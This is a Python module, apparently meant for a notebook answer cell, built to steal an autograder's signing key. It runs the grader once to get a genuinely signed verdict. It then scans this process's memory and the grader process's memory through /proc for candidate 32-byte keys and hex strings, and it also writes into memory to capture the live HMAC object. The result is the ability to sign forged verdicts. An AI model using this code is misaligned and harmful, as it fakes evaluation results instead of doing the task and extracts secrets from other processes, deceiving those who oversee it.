# Find the seal's key in this process's memory: collect every 64-digit hex
# string and every 32-byte `bytes` object (live or freed: a freed object keeps
# its type pointer and size), and keep the one that signs a genuine verdict
# (the oracle: check() of an empty namespace, run in this answer cell).
import contextlib as _contextlib
import hashlib as _hashlib
import hmac as _hmac
import io as _io
import re as _re
import struct as _struct


def _oracle():
    import autograder

    buf = _io.StringIO()
    with _contextlib.redirect_stdout(buf):
        autograder.check("01_threads", "heartbeat", 6, {})
    match = _re.search(r"\[autograder verdict v2 (\S+) ([0-9a-f]{64})\]", buf.getvalue())
    if match is None:
        return None
    message = verdict_text("heartbeat", 6.0, float(match.group(1))).encode()
    return message, match.group(2)


def scan_for_key(mem_path):
    oracle = _oracle()
    if oracle is None:
        return None
    message, mac = oracle
    with open("/proc/self/maps") as fh:
        maps = fh.read().splitlines()
    hexes = set()
    raw = set()
    header = _struct.pack("<QQ", id(bytes), 32)  # ob_type, ob_size of a bytes of 32
    with open(mem_path, "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if hi - lo > (1 << 30):
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            hexes.update(_re.findall(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", data))
            at = data.find(header)
            while at >= 0:
                raw.add(data[at + 24 : at + 56])  # after ob_shash
                at = data.find(header, at + 1)
    candidates = {bytes.fromhex(h.decode()) for h in hexes} | {r for r in raw if len(r) == 32}
    for key in candidates:
        if _hmac.new(key, message, _hashlib.sha256).hexdigest() == mac:
            return key
    return None


def _grab(mem, address):
    """Return the object at `address`: write its address into a list's item slot."""
    holder = [None]
    mem.seek(id(holder) + 24)  # PyListObject: refcnt, type, size, ob_item
    items = int.from_bytes(mem.read(8), "little")
    mem.seek(address)
    refs = int.from_bytes(mem.read(8), "little")
    mem.seek(address)
    mem.write((refs + 1).to_bytes(8, "little"))  # the list now owns a reference
    mem.seek(items)
    mem.write(address.to_bytes(8, "little"))
    return holder[0]


def grab_signer(mem_path):
    """Find the seal's keyed HMAC object itself (any hmac.HMAC that signs the oracle)."""
    import hmac as _h

    oracle = _oracle()
    if oracle is None:
        return None
    message, mac = oracle
    wanted = id(_h.HMAC).to_bytes(8, "little")
    with open("/proc/self/maps") as fh:
        maps = fh.read().splitlines()
    with open(mem_path, "r+b", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if hi - lo > (1 << 30):
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            at = data.find(wanted)
            while at >= 0:
                if at % 8 == 0 and at >= 8:
                    refs = int.from_bytes(data[at - 8 : at], "little")
                    if 0 < refs < (1 << 20):
                        obj = _grab(mem, lo + at - 8)
                        try:
                            copy = obj.copy()
                            copy.update(message)
                            if copy.hexdigest() == mac:
                                return lambda text, h=obj: (
                                    lambda c: (c.update(text.encode()), c.hexdigest())[1]
                                )(h.copy())
                        except Exception:  # noqa: BLE001, S110
                            pass
                at = data.find(wanted, at + 1)
    return None


def _region_of(maps_lines, address):
    for line in maps_lines:
        fields = line.split()
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        if lo <= address < hi and len(fields) >= 6:
            return lo, int(fields[2], 16), fields[5]
    return None


def scan_other_process(pid, mem_path):
    """Find the key among the 32-byte `bytes` objects of another process (the grader)."""
    oracle = _oracle()
    if oracle is None:
        return None
    message, mac = oracle
    with open("/proc/self/maps") as fh:
        mine = fh.read().splitlines()
    with open(f"/proc/{pid}/maps") as fh:
        theirs = fh.read().splitlines()
    where = _region_of(mine, id(bytes))
    if where is None:
        return None
    lo, file_offset, path = where
    wanted_offset = id(bytes) - lo + file_offset
    type_address = None
    for line in theirs:
        fields = line.split()
        if len(fields) >= 6 and fields[5] == path:
            tlo, thi = (int(x, 16) for x in fields[0].split("-"))
            toff = int(fields[2], 16)
            if toff <= wanted_offset < toff + (thi - tlo):
                type_address = tlo + wanted_offset - toff
    if type_address is None:
        return None
    header = _struct.pack("<QQ", type_address, 32)
    with open(mem_path, "rb", buffering=0) as mem:
        for line in theirs:
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if hi - lo > (1 << 30):
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            at = data.find(header)
            while at >= 0:
                key = data[at + 24 : at + 56]
                if len(key) == 32 and _hmac.new(key, message, _hashlib.sha256).hexdigest() == mac:
                    return key
                at = data.find(header, at + 1)
    return None
